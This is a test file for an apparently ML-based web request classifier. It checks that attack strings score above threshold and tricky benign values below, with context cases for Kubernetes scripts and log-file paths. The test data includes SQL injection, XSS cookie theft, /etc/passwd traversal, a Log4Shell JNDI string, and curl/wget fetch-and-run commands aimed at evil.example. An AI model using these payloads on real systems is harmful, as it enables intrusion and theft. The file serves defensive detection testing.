import { describe, expect, it } from 'vitest';
import { recordToRawRequest } from '../../src/eval/record-request.js';
import { buildInspection } from '../../src/inspect/build-inspection.js';
import { createModelGate } from '../../src/model/gate.js';
import { loadPayloadModel } from '../../src/model/load.js';
import { mayCarryAttack } from '../../src/model/screen.js';

const model = await loadPayloadModel('models/payload-v1');

describe('the shipped payload model (models/payload-v1)', () => {
  it('scores obvious attacks of every family at or above its threshold', () => {
    const attacks = [
      "1' OR '1'='1' -- ",
      '-1 UNION SELECT username, password FROM users--',
      "admin'; DROP TABLE users;--",
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '../../../../etc/passwd',
      '; cat /etc/passwd',
      '$(curl http://evil.example/x.sh | sh)',
      '{{7*7}}{{config.__class__.__init__.__globals__}}',
      '${jndi:ldap://evil.example/a}',
    ];
    const scores = model.score(attacks);
    attacks.forEach((a, i) => expect(scores[i], a).toBeGreaterThanOrEqual(model.threshold));
  });

  it('scores hard-benign values below its threshold', () => {
    const benign = [
      "O'Brien",
      "L'Oréal",
      "Côte d'Ivoire",
      "It's a \"great\" product, isn't it?",
      'Tom & Jerry',
      'Please select your size from the list and update your order.',
      '<p>Thanks for the <b>quick</b> delivery!</p>',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      '(555) 123-4567',
      '50% off all shoes!',
      'https://www.example.com/search?q=red+shoes&page=2',
    ];
    const scores = model.score(benign);
    benign.forEach((b, i) => expect(scores[i], b).toBeLessThan(model.threshold));
  });

  it('is never asked about content negotiation lists: the screen keeps them away', () => {
    // Since the screen stopped sending them (and so training stopped seeing them), their raw score means nothing.
    expect(mayCarryAttack('text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8')).toBe(false);
  });

  it('leaves a Kubernetes container script alone while the same download-and-run in a plain JSON field scores as command injection', async () => {
    // An init script fetched and piped to sh: a container's declared script, never scored; anywhere else, command injection.
    // (payload-v1.2's example, `cat /etc/config/app.yaml | envsubst > /tmp/app.yaml && exec /app/server`, scores ~0 with
    // payload-v1.3 in a plain field too, so it no longer shows what the script role does.)
    const script = 'wget -qO- http://config.example/init.sh | sh; exec /app/server';
    const judge = async (body: string) =>
      (
        await createModelGate(model).evaluate(
          buildInspection(
            recordToRawRequest({
              id: 't',
              source: 'test',
              label: 'benign',
              category: 'cloud-api',
              method: 'POST',
              path: '/apis/batch/v1/namespaces/shop/jobs',
              query: '',
              headers: { Host: 'k8s.example', 'User-Agent': 'kubectl/v1.30.2 (linux/amd64) kubernetes/3962b7c', 'Content-Type': 'application/json' },
              body,
            }),
          ),
          { hits: [], candidates: 0 },
        )
      ).maxScore;
    expect(await judge(JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'm', command: ['/bin/sh', '-c', script] }] } } } }))).toBeLessThan(model.threshold);
    expect(await judge(JSON.stringify({ name: 'm', command: script }))).toBeGreaterThanOrEqual(model.threshold);
  });

  it('lets a log path pass as a setting or a search while the same path in an inclusion parameter scores as an attack', async () => {
    const judge = async (method: string, query: string, body?: string) =>
      (
        await createModelGate(model).evaluate(
          buildInspection(
            recordToRawRequest({
              id: 't',
              source: 'test',
              label: 'benign',
              category: 'sensitive-mentions',
              method,
              path: method === 'GET' ? '/index.php' : '/api/v1/settings/logging',
              query,
              headers: { Host: 'app.example', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', ...(body === undefined ? {} : { 'Content-Type': 'application/json' }) },
              ...(body === undefined ? {} : { body }),
            }),
          ),
          { hits: [], candidates: 0 },
        )
      ).maxScore;
    // payload-v1.3 scores nginx's access log in an inclusion parameter at 0.45, below its point (v1.2: 0.91; the model card's limitations).
    const log = '/var/log/apache2/access.log';
    expect(await judge('PATCH', '', JSON.stringify({ log_file: log, watch: ['.htaccess', '/etc/hosts'] }))).toBeLessThan(model.threshold);
    expect(await judge('GET', `q=${encodeURIComponent(log)}`)).toBeLessThan(model.threshold);
    expect(await judge('GET', `page=${encodeURIComponent(log)}`)).toBeGreaterThanOrEqual(model.threshold);
    expect(await judge('GET', `q=${encodeURIComponent(`../../..${log}`)}`)).toBeGreaterThanOrEqual(model.threshold);
  });

  it('points at the attacked field of a real request, through the normalizer and the gate', async () => {
    const inspection = buildInspection(
      recordToRawRequest({
        id: 't',
        source: 'test',
        label: 'attack',
        category: 'sqli',
        method: 'GET',
        path: '/products',
        // A plain word before the quote (`shoes' UNION …`) weakened the model alone in payload-v1.2 (0.75;
        // v1.3: 0.96; the signatures block it): see the model card's limitations.
        query: `sort=price&q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`,
        headers: { Host: 'shop.example', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', Accept: '*/*' },
      }),
    );
    const result = await createModelGate(model).evaluate(inspection, { hits: [], candidates: 0 });
    const top = result.scores[0];
    expect(inspection.targets[top.targetIndex].name).toBe('q');
    expect(top.score).toBeGreaterThanOrEqual(model.threshold);
    expect(result.screened).toBeLessThan(result.total);
  });
});
